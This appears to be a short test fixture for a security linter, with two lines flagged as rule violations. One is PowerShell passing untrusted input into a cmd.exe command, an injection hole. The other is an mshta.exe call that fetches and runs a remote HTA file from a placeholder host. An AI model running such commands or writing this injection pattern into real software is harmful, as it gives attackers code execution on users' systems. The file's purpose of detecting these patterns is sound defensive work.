[System.Diagnostics.Process]::Start("cmd.exe", "/c echo " + $args[0]) # BAD no-unjustified-commands/untrusted-input
mshta.exe http://get.example.net/x.hta # BAD no-unjustified-commands/download-and-run
